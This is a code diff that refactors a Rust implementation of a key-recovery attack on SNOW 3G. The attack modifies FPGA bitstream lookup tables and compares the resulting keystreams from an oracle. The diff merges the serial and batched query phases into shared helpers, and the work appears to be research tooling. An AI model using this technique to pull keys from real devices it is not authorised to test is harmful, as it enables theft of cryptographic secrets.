@@ -36,7 +36,7 @@ use bitstream::{Bitstream, FRAME_BYTES};
 use snow3g::recover::{recover_key, RecoverKeyError, RecoveredSecret};
 use snow3g::{FaultSpec, FaultySnow3g, Iv, Key};
 
-use crate::candidates::{Catalogue, Role, Shape};
+use crate::candidates::{Catalogue, Role};
 use crate::edit::{CrcStrategy, EditSession, GoldenForge};
 use crate::findlut::{LutHit, ScanConfigError, Scanner};
 use crate::oracle::{KeystreamOracle, OracleError};
@@ -512,7 +512,7 @@ pub struct Attack<'a> {
     payload: Vec<u8>,
     d: usize,
     words: usize,
-    /// Maximum queries issued per oracle batch (1 = serial).
+    /// Maximum queries issued per oracle call.
     batch: usize,
     forge: GoldenForge,
     catalogue: Catalogue,
@@ -603,16 +603,18 @@ impl<'a> Attack<'a> {
         Ok(attack)
     }
 
-    /// Sets the oracle batch width: phases with a precomputable work
-    /// list (keystream-path verification, feedback hypothesis, pair
-    /// disambiguation) issue up to `batch` queries per oracle call,
-    /// exploiting a batched substrate such as the 64-lane gang
-    /// simulator. `batch ≤ 1` keeps the serial query loop. Batched
-    /// and serial runs recover the same key from identical per-query
-    /// keystreams with identical load accounting (pinned by the
-    /// batch-equivalence tests); batching changes throughput and
-    /// journal write cadence only (one write per batch instead of one
-    /// per item).
+    /// Sets the oracle batch width: every querying phase except the
+    /// feedback-subset search and key extraction issues up to `batch`
+    /// queries per oracle call (the load-mux scan only when the oracle
+    /// is order-free, else one), exploiting a batched substrate such
+    /// as the 64-lane gang simulator. There is one code path for every
+    /// width: `batch ≤ 1` runs the same phases with one query per
+    /// call, which the resilience layer serves as a plain
+    /// [`ResilientOracle::query`]. All widths recover the same key
+    /// from identical per-query keystreams with identical load
+    /// accounting (pinned by the batch-equivalence tests); the width
+    /// changes throughput and journal write cadence only (one write
+    /// per oracle call instead of one per item).
     #[must_use]
     pub fn with_batch(mut self, batch: usize) -> Self {
         self.batch = batch.max(1);
@@ -808,8 +810,10 @@ impl<'a> Attack<'a> {
         self.oracle.stats()
     }
 
-    /// The single oracle chokepoint: every phase queries through the
-    /// resilience layer here. Budget and deadline exhaustion are
+    /// One query through the resilience layer, for the steps whose
+    /// next query depends on this answer (the golden read, the
+    /// feedback-subset search, key extraction); the other phases call
+    /// `query_batch` directly. Budget and deadline exhaustion are
     /// converted into a checkpointed partial result on the spot, so
     /// they carry whatever was verified up to the failing query.
     fn run_oracle(&mut self, bs: &Bitstream) -> Result<Vec<u32>, AttackError> {
@@ -1020,78 +1024,81 @@ impl<'a> Attack<'a> {
     /// stuck-bit signature. Iterates `candidates` from the checkpoint
     /// cursor, accumulating into `checkpoint.z_luts`; `count_dead`
     /// is set on the first pass only (the second pass revisits the
-    /// same dead bytes).
+    /// same dead bytes). Two valid LUTs cannot overlap in a bitstream
+    /// (Section VI-C), so candidates clashing with verified ones are
+    /// skipped without a query.
     fn verify_z_path(
         &mut self,
         candidates: &[LutHit],
         count_dead: bool,
     ) -> Result<(), AttackError> {
-        if self.batch > 1 {
-            return self.verify_z_path_batched(candidates, count_dead);
-        }
-        while self.checkpoint.cursor < candidates.len() {
-            let hit = candidates[self.checkpoint.cursor].clone();
-            // Two valid LUTs cannot overlap in a bitstream
-            // (Section VI-C): skip candidates clashing with verified
-            // ones. Oracle-free, so no journal write on this path.
-            let loc = hit.location(self.d);
-            if self.checkpoint.z_luts.iter().any(|z| loc.overlaps(&z.hit.location(self.d))) {
-                self.checkpoint.cursor += 1;
-                continue;
-            }
-            let mut session = self.forge.session();
-            session.write_function(&hit, TruthTable::zero(6));
-            let bs = session.finish(CrcStrategy::Recompute);
-            let z = self.run_oracle(&bs)?;
-            match stuck_bit(&z, &self.golden_keystream) {
-                Some(bit) => self.checkpoint.z_luts.push(ZPathLut { hit, bit, pair: None }),
+        let hits: Vec<&LutHit> = candidates.iter().collect();
+        self.zero_scan(
+            &hits,
+            |this, hit| this.claimed(hit),
+            |this, j, z| match stuck_bit(&z, &this.golden_keystream) {
+                Some(bit) => {
+                    this.checkpoint.z_luts.push(ZPathLut {
+                        hit: candidates[j].clone(),
+                        bit,
+                        pair: None,
+                    });
+                }
                 None => {
-                    if count_dead && z == self.golden_keystream {
-                        self.checkpoint.dead_candidates += 1;
+                    if count_dead && z == this.golden_keystream {
+                        this.checkpoint.dead_candidates += 1;
                     }
                 }
-            }
-            self.checkpoint.cursor += 1;
-            self.save_journal()?;
-        }
-        Ok(())
+            },
+        )
     }
 
-    /// Batched phase 2: same verdicts as the serial loop, issued up
-    /// to `self.batch` queries per oracle call.
+    /// Whether a hit's bytes overlap a LUT already verified on the
+    /// keystream path or kept on the feedback path.
+    fn claimed(&self, hit: &LutHit) -> bool {
+        let loc = hit.location(self.d);
+        self.checkpoint.z_luts.iter().any(|z| loc.overlaps(&z.hit.location(self.d)))
+            || self.checkpoint.feedback_luts.iter().any(|f| loc.overlaps(&f.hit.location(self.d)))
+    }
+
+    /// Walks `hits` from the checkpoint cursor, querying each hit
+    /// rewritten to constant 0 and handing the keystream to `verdict`
+    /// — the shared loop of phases 2 and 3. Hits for which `skip`
+    /// holds are consumed without a query. Queries go out up to
+    /// `self.batch` per oracle call, with one journal write per call.
     ///
-    /// Correctness of the greedy batch grouping: a candidate's *skip*
-    /// decision depends only on overlap with LUTs verified before it.
-    /// Within a batch, members are mutually non-overlapping (the
-    /// batch closes at the first candidate touching a pending
-    /// member's bytes), so no member's verification can change
-    /// another member's skip status — the decisions computed up front
-    /// equal the serial ones. Candidates overlapping an
-    /// already-verified LUT are consumed as skips without a query,
-    /// exactly as in the serial loop.
-    fn verify_z_path_batched(
+    /// A batch closes early at the first hit whose bytes overlap a
+    /// pending member. Then no verdict can change whether another
+    /// member of the same batch is skipped: `skip` reads only state
+    /// that grows by the members' own locations, so the skip
+    /// decisions taken up front equal those of an item-by-item walk.
+    /// On an oracle failure the cursor points at the failing hit.
+    fn zero_scan(
         &mut self,
-        candidates: &[LutHit],
-        count_dead: bool,
+        hits: &[&LutHit],
+        skip: impl Fn(&Self, &LutHit) -> bool,
+        mut verdict: impl FnMut(&mut Self, usize, Vec<u32>),
     ) -> Result<(), AttackError> {
-        while self.checkpoint.cursor < candidates.len() {
-            let (queries, end) = self.plan_batch(candidates.len(), |this, j| {
-                let loc = candidates[j].location(this.d);
-                if this.checkpoint.z_luts.iter().any(|z| loc.overlaps(&z.hit.location(this.d))) {
-                    BatchSlot::Skip
-                } else {
-                    BatchSlot::Query(loc)
+        while self.checkpoint.cursor < hits.len() {
+            let mut queries: Vec<usize> = Vec::new();
+            let mut pending: Vec<bitstream::LutLocation> = Vec::new();
+            let mut end = self.checkpoint.cursor;
+            while end < hits.len() && queries.len() < self.batch {
+                if !skip(self, hits[end]) {
+                    let loc = hits[end].location(self.d);
+                    if pending.iter().any(|p| loc.overlaps(p)) {
+                        break;
+                    }
+                    queries.push(end);
+                    pending.push(loc);
                 }
-            });
-            if queries.is_empty() {
-                self.checkpoint.cursor = end;
-                continue;
+                end += 1;
             }
             let bss: Vec<Bitstream> = queries
                 .iter()
                 .map(|&j| {
                     let mut session = self.forge.session();
-                    session.write_function(&candidates[j], TruthTable::zero(6));
+                    session.write_function(hits[j], TruthTable::zero(6));
                     session.finish(CrcStrategy::Recompute)
                 })
                 .collect();
@@ -1099,159 +1106,45 @@ impl<'a> Attack<'a> {
             for (&j, result) in queries.iter().zip(results) {
                 self.checkpoint.cursor = j;
                 let z = result.map_err(|e| self.attack_error(e))?;
-                let hit = candidates[j].clone();
-                match stuck_bit(&z, &self.golden_keystream) {
-                    Some(bit) => self.checkpoint.z_luts.push(ZPathLut { hit, bit, pair: None }),
-                    None => {
-                        if count_dead && z == self.golden_keystream {
-                            self.checkpoint.dead_candidates += 1;
-                        }
-                    }
-                }
+                verdict(self, j, z);
             }
             self.checkpoint.cursor = end;
-            self.save_journal()?;
+            if !queries.is_empty() {
+                self.save_journal()?;
+            }
         }
         Ok(())
     }
 
-    /// Greedy overlap-safe batch planner shared by the batched
-    /// phases. Starting at the checkpoint cursor, classifies items
-    /// via `classify` (which must depend only on state preceding the
-    /// batch): skips are consumed inline, queries accumulate up to
-    /// `self.batch` members, and the batch closes early at the first
-    /// item whose bytes overlap a pending member — its outcome could
-    /// depend on that member's verdict, so it belongs to the next
-    /// batch. Returns the item indices to query and the cursor value
-    /// after the batch.
-    fn plan_batch(
-        &self,
-        len: usize,
-        classify: impl Fn(&Self, usize) -> BatchSlot,
-    ) -> (Vec<usize>, usize) {
-        let mut queries: Vec<usize> = Vec::new();
-        let mut pending: Vec<bitstream::LutLocation> = Vec::new();
-        let mut j = self.checkpoint.cursor;
-        while j < len && queries.len() < self.batch {
-            match classify(self, j) {
-                BatchSlot::Skip => {}
-                BatchSlot::Query(loc) => {
-                    if pending.iter().any(|p| loc.overlaps(p)) {
-                        break;
-                    }
-                    queries.push(j);
-                    pending.push(loc);
-                }
-            }
-            j += 1;
-        }
-        (queries, j)
-    }
-
-    /// Phase 3: collect feedback-shape hits, pruning overlaps and
-    /// dead bytes. Accumulates into `checkpoint.feedback_luts` from
-    /// the checkpoint cursor over a deterministic flattened
-    /// (shape, hit) list.
+    /// Phase 3: collect feedback-shape hits, pruning off-lattice
+    /// hits, overlaps and dead bytes (a modification that does not
+    /// change the keystream hit filler bits). Accumulates into
+    /// `checkpoint.feedback_luts` from the checkpoint cursor over a
+    /// deterministic flattened (shape, hit) list.
     fn feedback_hypothesis(
         &mut self,
         hits_by_shape: &HashMap<&'static str, Vec<LutHit>>,
         lattice: &SiteLattice,
     ) -> Result<(), AttackError> {
-        let shapes: Vec<Shape> =
-            self.catalogue.shapes.iter().filter(|s| s.role == Role::Feedback).cloned().collect();
-        let mut items: Vec<(&'static str, LutHit)> = Vec::new();
-        for shape in &shapes {
-            for hit in hits_by_shape.get(shape.name).cloned().unwrap_or_default() {
+        let mut items: Vec<(&'static str, &LutHit)> = Vec::new();
+        for shape in self.catalogue.shapes.iter().filter(|s| s.role == Role::Feedback) {
+            for hit in hits_by_shape.get(shape.name).into_iter().flatten() {
                 items.push((shape.name, hit));
             }
         }
-        if self.batch > 1 {
-            return self.feedback_hypothesis_batched(&items, lattice);
-        }
-        while self.checkpoint.cursor < items.len() {
-            let (name, hit) = items[self.checkpoint.cursor].clone();
-            let loc = hit.location(self.d);
-            if !lattice.accepts_hit(&hit)
-                || self.checkpoint.z_luts.iter().any(|z| loc.overlaps(&z.hit.location(self.d)))
-                || self
-                    .checkpoint
-                    .feedback_luts
-                    .iter()
-                    .any(|f| loc.overlaps(&f.hit.location(self.d)))
-            {
-                self.checkpoint.cursor += 1;
-                continue;
-            }
-            // Dead-byte pruning: a modification that does not change
-            // the keystream hit filler bits.
-            let mut session = self.forge.session();
-            session.write_function(&hit, TruthTable::zero(6));
-            let bs = session.finish(CrcStrategy::Recompute);
-            let z = self.run_oracle(&bs)?;
-            if z == self.golden_keystream {
-                self.checkpoint.dead_candidates += 1;
-            } else {
-                self.checkpoint.feedback_luts.push(FeedbackLut { shape: name, hit });
-            }
-            self.checkpoint.cursor += 1;
-            self.save_journal()?;
-        }
-        Ok(())
-    }
-
-    /// Batched phase 3: same verdicts as the serial loop (see
-    /// [`Attack::verify_z_path_batched`] for the grouping argument —
-    /// here the dynamic pruning state is `feedback_luts`, which also
-    /// only grows by batch members' own locations).
-    fn feedback_hypothesis_batched(
-        &mut self,
-        items: &[(&'static str, LutHit)],
-        lattice: &SiteLattice,
-    ) -> Result<(), AttackError> {
-        while self.checkpoint.cursor < items.len() {
-            let (queries, end) = self.plan_batch(items.len(), |this, j| {
-                let hit = &items[j].1;
-                let loc = hit.location(this.d);
-                if !lattice.accepts_hit(hit)
-                    || this.checkpoint.z_luts.iter().any(|z| loc.overlaps(&z.hit.location(this.d)))
-                    || this
-                        .checkpoint
-                        .feedback_luts
-                        .iter()
-                        .any(|f| loc.overlaps(&f.hit.location(this.d)))
-                {
-                    BatchSlot::Skip
+        let hits: Vec<&LutHit> = items.iter().map(|&(_, hit)| hit).collect();
+        self.zero_scan(
+            &hits,
+            |this, hit| !lattice.accepts_hit(hit) || this.claimed(hit),
+            |this, j, z| {
+                if z == this.golden_keystream {
+                    this.checkpoint.dead_candidates += 1;
                 } else {
-                    BatchSlot::Query(loc)
+                    let (shape, hit) = items[j];
+                    this.checkpoint.feedback_luts.push(FeedbackLut { shape, hit: hit.clone() });
                 }
-            });
-            if queries.is_empty() {
-                self.checkpoint.cursor = end;
-                continue;
-            }
-            let bss: Vec<Bitstream> = queries
-                .iter()
-                .map(|&j| {
-                    let mut session = self.forge.session();
-                    session.write_function(&items[j].1, TruthTable::zero(6));
-                    session.finish(CrcStrategy::Recompute)
-                })
-                .collect();
-            let results = self.oracle.query_batch(&bss, self.words);
-            for (&j, result) in queries.iter().zip(results) {
-                self.checkpoint.cursor = j;
-                let z = result.map_err(|e| self.attack_error(e))?;
-                let (name, hit) = items[j].clone();
-                if z == self.golden_keystream {
-                    self.checkpoint.dead_candidates += 1;
-                } else {
-                    self.checkpoint.feedback_luts.push(FeedbackLut { shape: name, hit });
-                }
-            }
-            self.checkpoint.cursor = end;
-            self.save_journal()?;
-        }
-        Ok(())
+            },
+        )
     }
 
     /// Builds the β + α₁ bitstream for a feedback-LUT subset, using
@@ -1282,13 +1175,38 @@ impl<'a> Attack<'a> {
     /// Phase 4 pass 0: finds the γ=1 load-mux halves of stages
     /// `s0..s14`, accumulating into `checkpoint.mux_halves` from the
     /// checkpoint cursor.
+    ///
+    /// Each accepted hit runs a short decision chain per OR half: an
+    /// XOR null test, then a zero liveness test. The chains run as a
+    /// rolling wavefront: every round batches each in-flight hit's
+    /// *next* query into one oracle call, and a finished hit frees its
+    /// lane for the next pending hit at once. With more than one lane
+    /// this reorders queries (hit A's second query rides alongside hit
+    /// B's first), so the lane count is `self.batch` only when the
+    /// oracle is order-free (`ResilientOracle::reorder_transparent`)
+    /// and 1 otherwise. One lane runs the hits strictly in order. The
+    /// query *set* and every verdict are width-independent, because
+    ///
+    /// - the accept filter reads only state this phase never writes
+    ///   (the lattice, `z_luts`, `feedback_luts`), so it is static and
+    ///   precomputable, and
+    /// - the only cross-hit dependency, the duplicate-claim skip, which
+    ///   compares byte offsets `l`, is confined to same-`l` hits, and a
+    ///   hit is admitted only once every earlier same-`l` hit has
+    ///   finished (later different-`l` hits may overtake it).
+    ///
+    /// Verdicts commit to the checkpoint strictly in hit order, with a
+    /// journal write after each commit that includes a hit which
+    /// queried. A mid-flight oracle error rewinds the cursor to the
+    /// first uncommitted hit, so a resumed run redoes everything past
+    /// the committed prefix.
     fn find_load_mux_halves(&mut self, lattice: &SiteLattice) -> Result<(), AttackError> {
         // Scan for LUTs with an OR-of-two-pins half, on the site
         // lattice learned from the verified LUTs. The lattice is a
         // pure position test, so applying it as a scan prefilter
         // skips the expensive sub-vector decode at off-lattice
-        // positions; the serial loop's `accepts_hit` check below
-        // still rejects hits whose *order* contradicts the lattice.
+        // positions; the accept filter below still rejects hits whose
+        // *order* contradicts the lattice.
         let scanner = Scanner::builder().stride(self.d).build()?;
         let raw = scanner.scan_halves_where(
             &self.payload,
@@ -1296,127 +1214,13 @@ impl<'a> Attack<'a> {
             |l| lattice.accepts(l),
             |o5, o6| or_pair(o5).is_some() || or_pair(o6).is_some(),
         );
-        if self.batch > 1 && self.oracle.reorder_transparent() {
-            return self.find_load_mux_halves_batched(lattice, &raw);
-        }
-        while self.checkpoint.cursor < raw.len() {
-            let hit = raw[self.checkpoint.cursor].clone();
-            let loc = hit.location(self.d);
-            if !lattice.accepts_hit(&hit)
-                || self.checkpoint.z_luts.iter().any(|z| loc.overlaps(&z.hit.location(self.d)))
-                || self
-                    .checkpoint
-                    .feedback_luts
-                    .iter()
-                    .any(|f| loc.overlaps(&f.hit.location(self.d)))
-            {
-                self.checkpoint.cursor += 1;
-                continue;
-            }
-            let mut queried = false;
-            let mut found: Vec<LoadMuxHalf> = Vec::new();
-            let halves = [hit.init.o5(), hit.init.o6_fractured()];
-            for half in 0..2u8 {
-                let Some((p, q)) = or_pair(halves[half as usize]) else { continue };
-                // Skip duplicate views of bytes already claimed: the
-                // same physical half can match under both sub-vector
-                // orders when the lattice could not learn the slice
-                // alternation; one edit suffices (both views write
-                // the same reachable-row semantics).
-                if self.checkpoint.mux_halves.iter().any(|h| h.half == half && h.hit.l == hit.l) {
-                    continue;
-                }
-                // Null test: a genuine load mux is insensitive to
-                // replacing (x ∨ y) by (x ⊕ y), because the control
-                // and the shift-in are never 1 together on a real
-                // device (c_load is high only in the first cycle,
-                // when every shift-in is still at its power-up
-                // value 0).
-                queried = true;
-                let mut session = self.forge.session();
-                let xor = TruthTable::var(5, p).xor(TruthTable::var(5, q));
-                session.write_half(&hit, half, xor);
-                let z = self.run_oracle(&session.finish(CrcStrategy::Recompute))?;
-                if z != self.golden_keystream {
-                    continue; // a real OR gate elsewhere in the design
-                }
-                // Liveness: forcing the half to 0 must disturb the
-                // keystream, otherwise these are dead filler bytes.
-                let mut session = self.forge.session();
-                session.write_half(&hit, half, TruthTable::zero(5));
-                let z = self.run_oracle(&session.finish(CrcStrategy::Recompute))?;
-                if z == self.golden_keystream {
-                    self.checkpoint.dead_candidates += 1;
-                    break; // dead filler: skip the hit's remaining half
-                }
-                found.push(LoadMuxHalf { hit: hit.clone(), half, pins: (p, q) });
-            }
-            // The whole hit is one journal item: its half edits and
-            // the dead verdict land in the checkpoint atomically with
-            // the cursor advance, before any state is persisted.
-            self.checkpoint.mux_halves.extend(found);
-            self.checkpoint.cursor += 1;
-            if queried {
-                self.save_journal()?;
-            }
-        }
-        Ok(())
-    }
-
-    /// Batched load-mux scan: drives each hit's sequential decision
-    /// chain (XOR null test → zero liveness test, per half) as a
-    /// rolling wavefront — every round batches each in-flight hit's
-    /// *next* query into one oracle call, and finished hits free
-    /// their lane for the next pending hit immediately.
-    ///
-    /// Unlike the other batched phases this reorders queries relative
-    /// to the serial loop (hit A's second query rides alongside hit
-    /// B's first), so it is only taken when the oracle is order-free
-    /// — `ResilientOracle::reorder_transparent` — and noisy
-    /// configurations keep the serial path (whose batches the planned
-    /// path makes fault-exact without reordering).
-    /// The query *set* is unchanged: every hit runs the same chain
-    /// with the same verdicts as the serial loop, because
-    ///
-    /// - the accept/reject filter reads only state this phase never
-    ///   writes (the lattice, `z_luts`, `feedback_luts`), so it is
-    ///   static and precomputable, and
-    /// - the only cross-hit dependency — the duplicate-claim skip,
-    ///   which compares byte offsets `l` — is confined to same-`l`
-    ///   hits, and a hit is admitted only once every earlier same-`l`
-    ///   hit has finished (later different-`l` hits may overtake it).
-    ///
-    /// Verdicts commit to the checkpoint strictly in serial hit
-    /// order; a mid-flight oracle error rewinds the cursor to the
-    /// first uncommitted hit so a resumed run redoes everything past
-    /// the committed prefix.
-    fn find_load_mux_halves_batched(
-        &mut self,
-        lattice: &SiteLattice,
-        raw: &[LutHit],
-    ) -> Result<(), AttackError> {
-        // The static accept filter, applied once up front.
+        let lanes = if self.oracle.reorder_transparent() { self.batch } else { 1 };
         let accepted: Vec<usize> = (self.checkpoint.cursor..raw.len())
-            .filter(|&j| {
-                let hit = &raw[j];
-                let loc = hit.location(self.d);
-                lattice.accepts_hit(hit)
-                    && !self.checkpoint.z_luts.iter().any(|z| loc.overlaps(&z.hit.location(self.d)))
-                    && !self
-                        .checkpoint
-                        .feedback_luts
-                        .iter()
-                        .any(|f| loc.overlaps(&f.hit.location(self.d)))
-            })
+            .filter(|&j| lattice.accepts_hit(&raw[j]) && !self.claimed(&raw[j]))
             .collect();
-        if accepted.is_empty() {
-            self.checkpoint.cursor = raw.len();
-            return Ok(());
-        }
 
-        // Per-hit state machine, identical to one serial loop body.
-        // `half` and `stage` name the next query to issue; `pos`
-        // indexes `accepted`.
+        // Per-hit state machine. `half` and `stage` name the next
+        // query to issue; `pos` indexes `accepted`.
         enum Stage {
             Xor,
             Zero,
@@ -1428,13 +1232,17 @@ impl<'a> Attack<'a> {
             stage: Stage,
             found: Vec<LoadMuxHalf>,
             dead: bool,
+            queried: bool,
             done: bool,
         }
-        // (half, l) pairs already claimed — the serial loop's
-        // duplicate-view check against `checkpoint.mux_halves`,
-        // extended as hits finish. A same-`l` successor is admitted
-        // only after its predecessors finished, so its claim check
-        // reads exactly the mid-serial-walk state.
+        // (half, l) pairs already claimed, extended as hits finish.
+        // Skipping them drops duplicate views of the same physical
+        // half: it can match under both sub-vector orders when the
+        // lattice could not learn the slice alternation, and one edit
+        // suffices (both views write the same reachable-row
+        // semantics). A same-`l` successor is admitted only after its
+        // predecessors finished, so its claim check reads exactly the
+        // in-order state.
         let mut claimed: Vec<(u8, usize)> =
             self.checkpoint.mux_halves.iter().map(|h| (h.half, h.hit.l)).collect();
         let advance = |claimed: &[(u8, usize)], state: &mut HitState, from: u8| {
@@ -1452,6 +1260,28 @@ impl<'a> Attack<'a> {
             }
             state.done = true;
         };
+        // Commits the finished prefix in hit order; the whole hit is
+        // one journal item, so its half edits and dead verdict land
+        // together with the cursor advance.
+        let commit = |this: &mut Self,
+                      completed: &mut [Option<HitState>],
+                      frontier: &mut usize|
+         -> Result<(), AttackError> {
+            let mut queried = false;
+            while let Some(state) = completed.get_mut(*frontier).and_then(Option::take) {
+                if state.dead {
+                    this.checkpoint.dead_candidates += 1;
+                }
+                this.checkpoint.mux_halves.extend(state.found);
+                this.checkpoint.cursor = accepted[*frontier] + 1;
+                queried |= state.queried;
+                *frontier += 1;
+            }
+            if queried {
+                this.save_journal()?;
+            }
+            Ok(())
+        };
 
         let mut pending: Vec<usize> = (0..accepted.len()).collect();
         let mut inflight: Vec<HitState> = Vec::new();
@@ -1466,7 +1296,7 @@ impl<'a> Attack<'a> {
             let mut rest: Vec<usize> = Vec::new();
             for &pos in &pending {
                 let l = raw[accepted[pos]].l;
-                if inflight.len() >= self.batch || busy.contains(&l) {
+                if inflight.len() >= lanes || busy.contains(&l) {
                     busy.push(l);
                     rest.push(pos);
                     continue;
@@ -1479,6 +1309,7 @@ impl<'a> Attack<'a> {
                     stage: Stage::Xor,
                     found: Vec::new(),
                     dead: false,
+                    queried: false,
                     done: false,
                 };
                 advance(&claimed, &mut state, 0);
@@ -1486,101 +1317,82 @@ impl<'a> Attack<'a> {
                     // No queryable half: finished without a lane.
                     completed[pos] = Some(state);
                 } else {
+                    state.queried = true;
                     inflight.push(state);
                 }
             }
             pending = rest;
+            commit(self, &mut completed, &mut frontier)?;
+            if inflight.is_empty() {
+                continue;
+            }
 
             // One oracle call carrying every in-flight hit's next
             // query.
-            if !inflight.is_empty() {
-                let bss: Vec<Bitstream> = inflight
-                    .iter()
-                    .map(|state| {
-                        let (p, q) = state.pins;
-                        let table = match state.stage {
-                            Stage::Xor => TruthTable::var(5, p).xor(TruthTable::var(5, q)),
-                            Stage::Zero => TruthTable::zero(5),
-                        };
-                        let mut session = self.forge.session();
-                        session.write_half(&raw[accepted[state.pos]], state.half, table);
-                        session.finish(CrcStrategy::Recompute)
-                    })
-                    .collect();
-                let results = self.oracle.query_batch(&bss, self.words);
-                for (state, result) in inflight.iter_mut().zip(results) {
-                    let z = match result {
-                        Ok(z) => z,
-                        Err(e) => {
-                            // Rewind to the first uncommitted hit so
-                            // a resumed run redoes everything past
-                            // the committed prefix.
-                            self.checkpoint.cursor = accepted[frontier];
-                            return Err(self.attack_error(e));
-                        }
+            let bss: Vec<Bitstream> = inflight
+                .iter()
+                .map(|state| {
+                    let (p, q) = state.pins;
+                    let table = match state.stage {
+                        // Null test: a genuine load mux is insensitive
+                        // to replacing (x ∨ y) by (x ⊕ y), because the
+                        // control and the shift-in are never 1
+                        // together on a real device (c_load is high
+                        // only in the first cycle, when every
+                        // shift-in is still at its power-up value 0).
+                        Stage::Xor => TruthTable::var(5, p).xor(TruthTable::var(5, q)),
+                        // Liveness: forcing the half to 0 must disturb
+                        // the keystream, otherwise these are dead
+                        // filler bytes.
+                        Stage::Zero => TruthTable::zero(5),
                     };
-                    let half = state.half;
-                    match state.stage {
-                        Stage::Xor => {
-                            if z != self.golden_keystream {
-                                // A real OR gate elsewhere in the
-                                // design: try the other half.
-                                advance(&claimed, state, half + 1);
-                            } else {
-                                state.stage = Stage::Zero;
-                            }
-                        }
-                        Stage::Zero => {
-                            if z == self.golden_keystream {
-                                // Dead filler: skip the hit's
-                                // remaining half.
-                                state.dead = true;
-                                state.done = true;
-                            } else {
-                                let hit = raw[accepted[state.pos]].clone();
-                                state.found.push(LoadMuxHalf { hit, half, pins: state.pins });
-                                advance(&claimed, state, half + 1);
-                            }
-                        }
+                    let mut session = self.forge.session();
+                    session.write_half(&raw[accepted[state.pos]], state.half, table);
+                    session.finish(CrcStrategy::Recompute)
+                })
+                .collect();
+            let results = self.oracle.query_batch(&bss, self.words);
+            for (state, result) in inflight.iter_mut().zip(results) {
+                let z = result.map_err(|e| {
+                    self.checkpoint.cursor = accepted[frontier];
+                    self.attack_error(e)
+                })?;
+                let half = state.half;
+                match state.stage {
+                    // A real OR gate elsewhere in the design: try the
+                    // other half.
+                    Stage::Xor if z != self.golden_keystream => {
+                        advance(&claimed, state, half + 1);
                     }
-                }
-                // Retire finished hits: their claims become visible
-                // to same-`l` successors before any can be admitted.
-                let mut i = 0;
-                while i < inflight.len() {
-                    if inflight[i].done {
-                        let state = inflight.swap_remove(i);
-                        for h in &state.found {
-                            claimed.push((h.half, h.hit.l));
-                        }
-                        let pos = state.pos;
-                        completed[pos] = Some(state);
-                    } else {
-                        i += 1;
+                    Stage::Xor => state.stage = Stage::Zero,
+                    // Dead filler: skip the hit's remaining half.
+                    Stage::Zero if z == self.golden_keystream => {
+                        state.dead = true;
+                        state.done = true;
+                    }
+                    Stage::Zero => {
+                        let hit = raw[accepted[state.pos]].clone();
+                        state.found.push(LoadMuxHalf { hit, half, pins: state.pins });
+                        advance(&claimed, state, half + 1);
                     }
                 }
             }
-
-            // Commit the finished prefix in serial hit order, then
-            // persist once per round.
-            let mut committed_any = false;
-            while let Some(slot) = completed.get_mut(frontier) {
-                let Some(state) = slot.take() else { break };
-                if state.dead {
-                    self.checkpoint.dead_candidates += 1;
+            // Retire finished hits: their claims become visible to
+            // same-`l` successors before any can be admitted.
+            let mut i = 0;
+            while i < inflight.len() {
+                if inflight[i].done {
+                    let state = inflight.swap_remove(i);
+                    claimed.extend(state.found.iter().map(|h| (h.half, h.hit.l)));
+                    let pos = state.pos;
+                    completed[pos] = Some(state);
+                } else {
+                    i += 1;
                 }
-                self.checkpoint.mux_halves.extend(state.found);
-                self.checkpoint.cursor = accepted[frontier] + 1;
-                frontier += 1;
-                committed_any = true;
             }
-            if frontier == accepted.len() {
-                self.checkpoint.cursor = raw.len();
-            }
-            if committed_any {
-                self.save_journal()?;
-            }
+            commit(self, &mut completed, &mut frontier)?;
         }
+        self.checkpoint.cursor = raw.len();
         Ok(())
     }
 
@@ -1654,14 +1466,14 @@ impl<'a> Attack<'a> {
         };
         // Both variant bitstreams derive from the same static inputs
         // (the key-independent image and the verified LUT list), so
-        // from a fresh phase they batch as one two-query oracle call.
-        // A mid-phase resume (cursor 1) queries the remainder
-        // serially below.
-        if self.batch > 1 && self.checkpoint.cursor == 0 {
+        // they batch: up to `self.batch` variants per oracle call,
+        // one journal write per call.
+        while self.checkpoint.cursor < 2 {
+            let chunk = self.checkpoint.cursor..(self.checkpoint.cursor + self.batch).min(2);
             let bss: Vec<Bitstream> =
-                f2.variants[..2].iter().map(|v| variant_bs(self, v)).collect();
+                f2.variants[chunk.clone()].iter().map(|v| variant_bs(self, v)).collect();
             let results = self.oracle.query_batch(&bss, self.words);
-            for (j, result) in results.into_iter().enumerate() {
+            for (j, result) in chunk.zip(results) {
                 self.checkpoint.cursor = j;
                 let zs = result.map_err(|e| self.attack_error(e))?;
                 let mut mask = u32::MAX;
@@ -1669,19 +1481,8 @@ impl<'a> Attack<'a> {
                     mask &= !w;
                 }
                 self.checkpoint.stuck_masks.push(mask); // bit set ⇒ all-0
+                self.checkpoint.cursor = j + 1;
             }
-            self.checkpoint.cursor = 2;
-            self.save_journal()?;
-        }
-        while self.checkpoint.cursor < 2 {
-            let bs = variant_bs(self, &f2.variants[self.checkpoint.cursor]);
-            let zs = self.run_oracle(&bs)?;
-            let mut mask = u32::MAX;
-            for w in &zs {
-                mask &= !w;
-            }
-            self.checkpoint.stuck_masks.push(mask); // bit set ⇒ all-0
-            self.checkpoint.cursor += 1;
             self.save_journal()?;
         }
         // Pure computation over the journalled masks — idempotent, so
@@ -1728,16 +1529,6 @@ impl<'a> Attack<'a> {
         let z = self.run_oracle(&bs)?;
         Ok((bs, z))
     }
-}
-
-/// How the batch planner treats one work item.
-enum BatchSlot {
-    /// Consumed without an oracle query (pruned by the overlap or
-    /// lattice rules against pre-batch state).
-    Skip,
-    /// Queried; carries the bytes the edit touches, for closing the
-    /// batch before any intra-batch overlap.
-    Query(bitstream::LutLocation),
 }
 
 /// Enumerates all `k`-element subsets of `0..n` (ascending index
